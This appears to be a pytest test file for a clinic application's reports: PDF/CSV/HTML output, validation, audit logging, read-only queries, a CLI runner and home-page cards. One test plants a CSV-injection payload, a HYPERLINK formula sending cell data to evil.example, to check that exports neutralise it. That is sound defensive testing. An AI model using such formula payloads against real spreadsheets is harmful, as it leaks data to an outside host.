"""Reports: definitions, the runner, the three outputs, the command line and the home-page cards."""
import datetime as dt
import json
import re
import subprocess
import textwrap

import pytest
from sqlalchemy import func, insert, literal, select

from app.extensions import db
from app.models import AuditEvent, Provider
from app.reports import Column, Report, ReportDefinitionError, all_reports, day_bounds, load_reports
from app.reports import runner as report_runner
from app.reports.definitions import clinic_timezone
from tests.conftest import make_user
from tests.factories import PatientFactory, ProviderFactory

REPORTS = list(all_reports())
FIRST_ALLOWED = {name: next(r for r in report.roles if r != "Admin") for name, report in all_reports().items()}


def post_report(client, name, fmt="html", **fields):
    data = {"csrf_token": client.csrf_token, "format": fmt, **fields}
    return client.post(f"/reports/{name}/", data=data)


def pdf_text(data, tmp_path, name="report.pdf"):
    path = tmp_path / name
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


def registered_on(day, **fields):
    """A patient registered at noon (clinic time) on `day`."""
    since, _ = day_bounds(day, day)
    patient = PatientFactory(**fields)
    patient.created_on = since + dt.timedelta(hours=12)
    db.session.commit()
    return patient


def report_events():
    return db.session.scalars(select(AuditEvent).where(AuditEvent.action == "report")).all()


# --------------------------------------------------------------------------- every report, every format

@pytest.mark.parametrize("name", REPORTS)
def test_every_report_renders_in_all_three_formats_for_an_allowed_role(client, login_as, tmp_path, name):
    report = all_reports()[name]
    PatientFactory(family_name="Okafor", preferred_language="es", interpreter_needed=True)
    login_as(FIRST_ALLOWED[name])

    page = client.get(f"/reports/{name}/")
    assert page.status_code == 200 and str(report.title) in page.get_data(as_text=True)

    html = post_report(client, name, defaults="1")
    assert html.status_code == 200
    body = html.get_data(as_text=True)
    assert 'id="report-result"' in body

    pdf = post_report(client, name, "pdf", defaults="1")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    assert str(report.title) in pdf_text(pdf.data, tmp_path)

    csv = post_report(client, name, "csv", defaults="1")
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    assert csv.data.startswith(b"\xef\xbb\xbf") and "attachment" in csv.headers["Content-Disposition"]
    header = csv.data.decode("utf-8-sig").splitlines()[0]
    assert str(report.columns[0].label) in header


def test_the_real_definitions_load_and_grant_existing_roles():
    reports = load_reports()
    assert {"new_patients_by_month", "patients_by_language", "patients_missing_data", "patient_list",
            "possible_duplicates"} <= set(reports)
    for report in reports.values():
        assert report.source.startswith("reports/")


# --------------------------------------------------------------------------- content, totals, PDF text

def test_new_patients_by_month_counts_months_in_clinic_time_with_chart_and_totals(client, login_as, tmp_path):
    for day in (dt.date(2026, 1, 5), dt.date(2026, 1, 31), dt.date(2026, 3, 1)):
        registered_on(day, interpreter_needed=day.day == 5)
    registered_on(dt.date(2025, 12, 31))  # outside the period
    login_as("OfficeManager")
    fields = {"period_from": "01/01/2026", "period_to": "3/31/2026"}

    body = post_report(client, "new_patients_by_month", **fields).get_data(as_text=True)
    assert "January 2026" in body and "February 2026" in body and "March 2026" in body
    assert "<svg" in body and "cd-report-chart" in body  # the chart, drawn on the server
    assert "<script src=\"/static/js/report_table.js\"" in body
    table = body.split('id="report-table"')[1]
    assert 'data-sort="2"' in table and 'data-sort="0"' in table  # January: 2, February: 0

    text = pdf_text(post_report(client, "new_patients_by_month", "pdf", **fields).data, tmp_path)
    assert "New patients by month" in text
    assert "January 2026" in text
    total = next(line for line in text.splitlines() if line.strip().startswith("Total"))
    assert total.split()[1:] == ["3", "1"]
    assert "Generated" in text and "officemanager1" in text and "Page 1 / 1" in text
    assert "Registered between" in text and "Jan 1, 2026" in text


def test_csv_is_iso_by_default_and_in_the_users_locale_when_asked(client, login_as):
    registered_on(dt.date(2026, 2, 10))
    login_as("OfficeManager")
    fields = {"period_from": "2026-02-01", "period_to": "2026-02-28"}
    plain = post_report(client, "new_patients_by_month", "csv", **fields).data.decode("utf-8-sig").splitlines()
    assert plain[1] == "2026-02-01,1,0"
    assert plain[2] == "Total,1,0"
    local = post_report(client, "new_patients_by_month", "csv", localized="y", **fields).data.decode("utf-8-sig")
    assert "February 2026,1,0" in local


def test_language_report_names_languages_in_the_readers_language(client, login_as, runner, tmp_path):
    PatientFactory(preferred_language="es", interpreter_needed=True)
    PatientFactory(preferred_language="es")
    PatientFactory(preferred_language="vi", interpreter_needed=True)
    user = login_as("FrontDesk")
    body = post_report(client, "patients_by_language", defaults="1").get_data(as_text=True)
    assert "Spanish" in body and "Vietnamese" in body
    assert "66.7%" in body  # share of patients, Babel-formatted

    out = tmp_path / "lang.csv"
    result = runner.invoke(args=["clinic", "report", "patients_by_language", "--format", "csv", "--out", str(out),
                                 "--as-user", user.username, "--locale", "fr", "--localized"])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    assert "espagnol" in text and "66,7" in text


def test_an_empty_result_says_so(client, login_as, tmp_path):
    login_as("OfficeManager")
    body = post_report(client, "possible_duplicates", defaults="1").get_data(as_text=True)
    assert 'id="report-empty"' in body
    assert "No rows" in pdf_text(post_report(client, "possible_duplicates", "pdf", defaults="1").data, tmp_path)


def test_sorting_values_are_raw_so_the_browser_sorts_numbers_and_dates(client, login_as):
    PatientFactory(family_name="Zeta", birth_date=dt.date(1999, 1, 2))
    PatientFactory(family_name="Alpha", birth_date=dt.date(1950, 12, 30))
    login_as("FrontDesk")
    body = post_report(client, "patient_list", defaults="1").get_data(as_text=True)
    assert 'data-sort="1950-12-30"' in body and 'data-sort="1999-01-02"' in body
    assert 'class="cd-sort"' in body


# --------------------------------------------------------------------------- CSV injection

def test_csv_export_neutralises_formula_cells(client, login_as):
    PatientFactory(family_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', given_name="+SUM(A1:A9)",
                   phone_mobile="+16175550142")
    login_as("FrontDesk")
    csv = post_report(client, "patient_list", "csv", defaults="1")
    text = csv.data.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in text
    assert ",'+SUM(A1:A9)," in text
    assert ",'+16175550142," in text  # a phone number starting with + is neutralised too
    assert "\n=" not in text and ",=" not in text


# --------------------------------------------------------------------------- bad parameters

def _nothing_ran(body):
    return 'id="report-result"' not in body and "Nothing was run" in body


def test_end_before_start_is_refused_and_nothing_runs(client, login_as):
    login_as("OfficeManager")
    body = post_report(client, "new_patients_by_month", period_from="3/1/2026", period_to="2/1/2026").get_data(as_text=True)
    assert _nothing_ran(body)
    assert "The end date is before the start date." in body
    assert 'value="2/1/2026"' in body  # what was typed stays in the form


def test_a_date_typed_wrong_for_the_locale_is_refused(client, login_as):
    login_as("OfficeManager")
    body = post_report(client, "new_patients_by_month", period_from="2/30/2026", period_to="next tuesday").get_data(as_text=True)
    assert _nothing_ran(body)
    assert body.count("Not a valid date: type it as 12/31/1987.") == 2


def test_an_unknown_provider_is_refused_and_nothing_is_audited(client, login_as):
    ProviderFactory()
    login_as("FrontDesk")
    body = post_report(client, "patient_list", status="active", provider="999999").get_data(as_text=True)
    assert _nothing_ran(body) and "Unknown provider." in body
    assert report_events() == []
    csv = post_report(client, "patient_list", "csv", status="active", provider="abc")
    assert csv.mimetype == "text/html" and "Unknown provider." in csv.get_data(as_text=True)
    assert report_events() == []


def test_a_known_provider_and_language_filter_the_list(client, login_as):
    provider = ProviderFactory(family_name="Adeyemi")
    PatientFactory(family_name="Keep", primary_provider_id=provider.id, preferred_language="vi")
    PatientFactory(family_name="Other", preferred_language="vi")
    PatientFactory(family_name="Wronglang", primary_provider_id=provider.id, preferred_language="es")
    login_as("FrontDesk")
    body = post_report(client, "patient_list", status="active", provider=str(provider.id),
                       language="Vietnamese").get_data(as_text=True)
    table = body.split('id="report-table"')[1]
    assert "Keep" in table and "Other" not in table and "Wronglang" not in table
    assert "Adeyemi" in body.split('id="report-result"')[1]  # the parameters are shown by name


def test_an_unknown_language_is_refused(client, login_as):
    login_as("FrontDesk")
    body = post_report(client, "patient_list", status="active", language="Klingonese").get_data(as_text=True)
    assert _nothing_ran(body) and "Unknown language" in body


# --------------------------------------------------------------------------- patient data: audit, minimum necessary

def test_running_a_patient_data_report_is_an_audited_access(client, login_as):
    PatientFactory.create_batch(3)
    user = login_as("FrontDesk")
    post_report(client, "patient_list", "csv", status="all", provider="", language="", registered_from="",
                registered_to="")
    [event] = report_events()
    details = json.loads(event.details)
    assert event.user_id == user.id and event.username == user.username
    assert event.object_type == "Report" and event.object_id == "patient_list" and event.patient_id is None
    assert details == {"report": "patient_list", "format": "csv", "rows": 3, "truncated": False,
                       "params": {"status": "all", "provider": None, "language": None, "registered": None}}
    assert event.path == "/reports/patient_list/"


def test_aggregate_reports_are_not_audited(client, login_as):
    PatientFactory()
    login_as("FrontDesk")
    post_report(client, "patients_by_language", defaults="1")
    assert report_events() == []


def test_restricted_patients_are_listed_without_contact_data(client, login_as):
    PatientFactory(family_name="Hidden", restricted=True, phone_mobile="+16175550100", email="hidden@example.com",
                   address_line1="1 Secret Lane")
    PatientFactory(family_name="Open", phone_mobile="+16175550101", email="open@example.com")
    login_as("FrontDesk")
    csv = post_report(client, "patient_list", "csv", defaults="1").data.decode("utf-8-sig")
    hidden = next(line for line in csv.splitlines() if "Hidden" in line)
    assert "5550100" not in csv and "hidden@example.com" not in csv and "Secret Lane" not in csv
    assert hidden.endswith(",active,true")
    assert "open@example.com" in csv


def test_missing_data_report_lists_what_is_missing(client, login_as):
    PatientFactory(family_name="Complete", phone_mobile="+16175550111", email="c@example.com",
                   hipaa_notice_ack_date=dt.date(2025, 1, 1), emergency_contact_name="Kin")
    PatientFactory(family_name="Nonotice", phone_mobile="+16175550112", email="n@example.com",
                   emergency_contact_name="Kin")
    login_as("FrontDesk")
    csv = post_report(client, "patients_missing_data", "csv", missing="notice", status="active", provider="",
                      registered_from="", registered_to="").data.decode("utf-8-sig").splitlines()
    assert len(csv) == 3  # header, one patient, totals
    assert "Nonotice" in csv[1] and csv[1].endswith(",false,false,true,false,")
    assert csv[2] == "Total: 1,,,,0,0,1,0,"


def test_possible_duplicates_pairs_same_name_and_birth_date_not_merged(client, login_as):
    older = PatientFactory(family_name="García", given_name="José", birth_date=dt.date(1970, 5, 6))
    newer = PatientFactory(family_name="Garcia", given_name="Jose", birth_date=dt.date(1970, 5, 6))
    PatientFactory(family_name="Garcia", given_name="Jose", birth_date=dt.date(1971, 5, 6))  # another person
    login_as("OfficeManager")
    csv = post_report(client, "possible_duplicates", "csv", defaults="1").data.decode("utf-8-sig").splitlines()
    assert len(csv) == 3
    assert csv[1].startswith(f"{newer.mrn},Garcia,Jose,1970-05-06,") and older.mrn in csv[1]


# --------------------------------------------------------------------------- read only, timeout

def _adhoc(query):
    report = Report(title="t", description="d", query=query, columns=[Column("n", "n", "int")], roles=["FrontDesk"])
    report.name = "adhoc"
    return report


def test_the_query_runs_read_only(app):
    def writes(conn, p):
        conn.execute(insert(Provider.__table__).values(family_name="Sneaky", given_name="X", active=True,
                                                       created_on=dt.datetime.now(dt.timezone.utc),
                                                       changed_on=dt.datetime.now(dt.timezone.utc)))
        return select(literal(1).label("n"))

    with pytest.raises(Exception) as info:
        report_runner.execute(_adhoc(writes), {}, engine=db.engine, timeout=5, limit=10)
    assert "read" in str(info.value).lower()
    assert db.session.scalar(select(func.count()).select_from(Provider)) == 0
    # The pooled connection went back writable.
    for _ in range(3):
        with db.engine.begin() as conn:
            conn.execute(insert(Provider.__table__).values(family_name="Fine", given_name="Y", active=True,
                                                           created_on=dt.datetime.now(dt.timezone.utc),
                                                           changed_on=dt.datetime.now(dt.timezone.utc)))
    assert db.session.scalar(select(func.count()).select_from(Provider)) == 3


def test_a_slow_query_is_stopped_at_the_timeout(app):
    def slow(conn, p):
        numbers = select(literal(1).label("n")).cte("numbers", recursive=True)
        numbers = numbers.union_all(select((numbers.c.n + 1).label("n")).where(numbers.c.n < 200_000_000))
        return select(func.count().label("n")).select_from(numbers)

    started = dt.datetime.now()
    with pytest.raises(report_runner.ReportTimeout):
        report_runner.execute(_adhoc(slow), {}, engine=db.engine, timeout=0.3, limit=10)
    assert (dt.datetime.now() - started).total_seconds() < 5
    rows, truncated, _ = report_runner.execute(_adhoc(lambda conn, p: select(literal(7).label("n"))), {}, engine=db.engine,
                                        timeout=5, limit=10)
    assert rows == [{"n": 7}] and not truncated


def test_rows_beyond_the_limit_are_cut_and_flagged(app):
    rows, truncated, _ = report_runner.execute(
        _adhoc(lambda conn, p: [{"n": i} for i in range(5)]), {}, engine=db.engine, timeout=5, limit=3)
    assert [r["n"] for r in rows] == [0, 1, 2] and truncated


# --------------------------------------------------------------------------- command line

def test_cli_runs_a_report_to_a_file_audited_as_the_user(runner, tmp_path):
    PatientFactory.create_batch(2)
    user = make_user("FrontDesk")
    out = tmp_path / "list.pdf"
    result = runner.invoke(args=["clinic", "report", "patient_list", "--param", "status=all", "--format", "pdf",
                                 "--out", str(out), "--as-user", user.username])
    assert result.exit_code == 0, result.output
    assert "2 row(s)" in result.output
    assert out.stat().st_mode & 0o777 == 0o600
    assert "Patient list" in pdf_text(out.read_bytes(), tmp_path, "check.pdf")
    [event] = report_events()
    assert event.username == user.username and event.path == "cli: flask clinic report"
    assert json.loads(event.details)["format"] == "pdf"


def test_cli_html_is_a_standalone_page_with_the_chart(runner, tmp_path):
    registered_on(dt.date(2026, 4, 2))
    user = make_user("OfficeManager")
    out = tmp_path / "months.html"
    result = runner.invoke(args=["clinic", "report", "new_patients_by_month", "--param", "period_from=2026-04-01",
                                 "--param", "period_to=2026-04-30", "--format", "html", "--out", str(out),
                                 "--as-user", user.username])
    assert result.exit_code == 0, result.output
    html = out.read_text()
    assert "<svg" in html and "April 2026" in html and "<script" not in html


def test_cli_refuses_a_user_without_the_permission(runner, tmp_path):
    user = make_user("Billing")
    out = tmp_path / "no.csv"
    result = runner.invoke(args=["clinic", "report", "possible_duplicates", "--format", "csv", "--out", str(out),
                                 "--as-user", user.username])
    assert result.exit_code == 1
    assert "may not run" in result.output
    assert not out.exists() and report_events() == []


def test_cli_checks_parameters_like_the_form(runner, tmp_path):
    user = make_user("OfficeManager")
    out = tmp_path / "bad.csv"
    result = runner.invoke(args=["clinic", "report", "new_patients_by_month", "--param", "period_from=2026-05-01",
                                 "--param", "period_to=2026-04-01", "--param", "colour=blue", "--out", str(out),
                                 "--as-user", user.username])
    assert result.exit_code == 1 and not out.exists()
    assert "The end date is before the start date." in result.output and "Unknown parameter colour" in result.output


def test_cli_names_unknown_reports_and_users(runner, tmp_path):
    make_user("OfficeManager")
    result = runner.invoke(args=["clinic", "report", "nope", "--out", str(tmp_path / "x"), "--as-user", "officemanager1"])
    assert result.exit_code == 1 and "no report 'nope'" in result.output and "patient_list" in result.output
    result = runner.invoke(args=["clinic", "report", "patient_list", "--out", str(tmp_path / "x"), "--as-user", "ghost"])
    assert result.exit_code == 1 and "no user 'ghost'" in result.output


# --------------------------------------------------------------------------- the loader

GOOD = """
from app.reports import Column, Param, Report
from sqlalchemy import literal, select

def query(conn, p):
    return select(literal(1).label("n"))

REPORT = Report(title="Good", description="A good one", query=query,
                columns=[Column("n", "N", "int", total="sum")], roles=["FrontDesk"])
"""

BROKEN = {
    "bad_column_type.py": ("Column(\"n\", \"N\", \"int\", total=\"sum\")", "Column(\"n\", \"N\", \"integer\")",
                           "bad_column_type.py: columns[0] 'n': unknown column type 'integer'"),
    "bad_chart.py": ("roles=[\"FrontDesk\"])", "roles=[\"FrontDesk\"], chart=__import__('app.reports').reports.Chart(\"bar\", x=\"n\", y=[\"visits\"]))",
                     "bad_chart.py: chart.y: 'visits' is not a column of this report"),
    "bad_role.py": ("roles=[\"FrontDesk\"]", "roles=[\"Receptionist\"]",
                    "bad_role.py: roles: 'Receptionist' is not a role in app/security.py"),
    "bad_default.py": ("roles=[\"FrontDesk\"])",
                       "roles=[\"FrontDesk\"], params=[Param(\"period\", \"daterange\", \"Period\", "
                       "default=lambda today: (today, today.replace(year=today.year - 1)))])",
                       "bad_default.py: params[0] 'period': default"),
    "bad_patient_role.py": ("roles=[\"FrontDesk\"])", "roles=[\"Auditor\"], patient_data=True)",
                            "bad_patient_role.py: roles: 'Auditor' may not read patients"),
    "bad_sum.py": ("Column(\"n\", \"N\", \"int\", total=\"sum\")", "Column(\"n\", \"N\", \"text\", total=\"sum\")",
                   "bad_sum.py: columns[0] 'n': a sum needs a number column"),
    "bad_choice_default.py": ("roles=[\"FrontDesk\"])",
                              "roles=[\"FrontDesk\"], params=[Param(\"status\", \"choice\", \"Status\", default=\"gone\", "
                              "choices=((\"active\", \"Active\"),))])",
                              "bad_choice_default.py: params[0] 'status': default 'gone' fails its own validation"),
    "bad_query.py": ("def query(conn, p):", "def query(conn):", "bad_query.py: query: must accept two arguments"),
    "no_report.py": ("REPORT = Report(", "OTHER = Report(", "no_report.py: REPORT: the file defines no REPORT"),
    "syntax.py": ("def query(conn, p):", "def query(conn, p)", "syntax.py: cannot be imported: SyntaxError"),
}


def test_loader_accepts_a_good_definition_and_takes_its_name_from_the_file(tmp_path):
    (tmp_path / "good_one.py").write_text(textwrap.dedent(GOOD))
    (tmp_path / "_helpers.py").write_text("raise RuntimeError('helpers are not reports')")
    reports = load_reports(str(tmp_path))
    assert list(reports) == ["good_one"]
    assert reports["good_one"].view_menu == "Report:good_one"


@pytest.mark.parametrize("filename", sorted(BROKEN))
def test_loader_names_the_file_and_the_field_of_a_broken_definition(tmp_path, filename):
    old, new, expected = BROKEN[filename]
    source = textwrap.dedent(GOOD)
    assert old in source
    (tmp_path / filename).write_text(source.replace(old, new))
    (tmp_path / "good_one.py").write_text(source)
    with pytest.raises(ReportDefinitionError) as info:
        load_reports(str(tmp_path))
    message = str(info.value)
    assert expected in message, message
    assert "good_one" not in message  # only the broken file is named


def test_loader_reports_every_broken_file_at_once(tmp_path):
    source = textwrap.dedent(GOOD)
    for filename in ("bad_role.py", "bad_column_type.py"):
        old, new, _ = BROKEN[filename]
        (tmp_path / filename).write_text(source.replace(old, new))
    with pytest.raises(ReportDefinitionError) as info:
        load_reports(str(tmp_path))
    assert len(info.value.problems) == 2


# --------------------------------------------------------------------------- home page cards

def _cards(client):
    body = client.get("/").get_data(as_text=True)
    return body, set(re.findall(r'id="card-([a-z_]+)"', body))


def test_front_desk_home_has_the_search_box_and_todays_registrations(client, login_as):
    today = dt.datetime.now(clinic_timezone()).date()
    registered_on(today, hipaa_notice_ack_date=None)
    registered_on(today - dt.timedelta(days=3))
    login_as("FrontDesk")
    body, cards = _cards(client)
    assert 'id="patient-search-q"' in body
    assert cards == {"registrations_today", "missing_today", "reports"}
    today_card = body.split('id="card-registrations_today"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">1</bdi>' in today_card
    missing = body.split('id="card-missing_today"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">1</bdi>' in missing and 'action="/reports/patients_missing_data/"' in missing


def test_the_card_buttons_open_the_report_with_todays_rows(client, login_as):
    today = dt.datetime.now(clinic_timezone()).date()
    registered_on(today, family_name="Newcomer", hipaa_notice_ack_date=None)
    registered_on(today - dt.timedelta(days=40), family_name="Oldtimer", hipaa_notice_ack_date=None)
    login_as("FrontDesk")
    iso = today.isoformat()
    body = post_report(client, "patients_missing_data", defaults="1", registered_from=iso, registered_to=iso).get_data(as_text=True)
    table = body.split('id="report-table"')[1]
    assert "Newcomer" in table and "Oldtimer" not in table


def test_office_manager_home_has_month_and_duplicates(client, login_as):
    PatientFactory(family_name="Twin", given_name="Ann", birth_date=dt.date(1990, 1, 1))
    PatientFactory(family_name="Twin", given_name="Ann", birth_date=dt.date(1990, 1, 1))
    login_as("OfficeManager")
    body, cards = _cards(client)
    assert {"registrations_today", "registrations_month", "duplicates", "missing_today", "reports"} <= cards
    duplicates = body.split('id="card-duplicates"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">1</bdi>' in duplicates and "cd-attention" in duplicates
    month = body.split('id="card-registrations_month"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">2</bdi>' in month


def test_auditor_home_counts_todays_break_glass_and_failed_sign_ins(client, auth, login_as):
    from app.services import audit

    audit.record(db.engine, action="break_glass", object_type="Patient", object_id=1, patient_id=1, flagged=True,
                 details={"reason": "test"})
    make_user("FrontDesk")
    auth.login("frontdesk1", "wrong password entirely")
    auth.login("frontdesk1", "wrong password again!")
    login_as("Auditor")
    body, cards = _cards(client)
    assert cards == {"break_glass_today", "failed_logins_today"}
    assert 'id="patient-search-q"' not in body
    glass = body.split('id="card-break_glass_today"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">1</bdi>' in glass and 'name="flagged_only" value="y"' in glass
    failed = body.split('id="card-failed_logins_today"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">2</bdi>' in failed and 'name="action" value="login_failed"' in failed
    # The button opens the audit trail filtered to those events (filters in the POST body).
    page = client.post("/audit/", data={"csrf_token": client.csrf_token, "format": "html", "action": "login_failed",
                                        "start": dt.date.today().isoformat(), "end": dt.date.today().isoformat()})
    assert page.get_data(as_text=True).count("Failed sign-in") >= 2


def test_clinician_home_counts_my_patients(client, login_as):
    user = login_as("Clinician")
    provider = ProviderFactory(user_id=user.id)
    PatientFactory.create_batch(2, primary_provider_id=provider.id)
    PatientFactory(primary_provider_id=provider.id, status="inactive")
    body, cards = _cards(client)
    assert cards == {"my_patients", "reports"}
    mine = body.split('id="card-my_patients"')[1].split("</section>")[0]
    assert '<bdi dir="ltr">2</bdi>' in mine and "/mypatientsview/list/" in mine.lower()


def test_billing_home_lists_its_reports(client, login_as):
    login_as("Billing")
    body, cards = _cards(client)
    assert cards == {"reports"}
    assert 'id="patient-search-q"' in body
    reports = body.split('id="card-reports"')[1].split("</section>")[0]
    assert "Patient list" in reports and "Possible duplicate" not in reports


def test_a_capability_adds_a_card_without_editing_the_view(client, login_as):
    from app.views.home import HOME_CARDS, Link, register_home_card

    register_home_card("test_card", "Inventory alerts", lambda user, ctx: {"value": 4, "text": "items low",
                                                                           "links": [Link("Open", "/")]},
                       permission=("can_read", "Provider"))
    try:
        login_as("Billing")
        body, cards = _cards(client)
        assert "test_card" in cards and "Inventory alerts" in body
        client.get("/logout/")
        login_as("Auditor")
        _, cards = _cards(client)
        assert "test_card" not in cards  # no can_read on Provider
    finally:
        HOME_CARDS[:] = [c for c in HOME_CARDS if c.key != "test_card"]
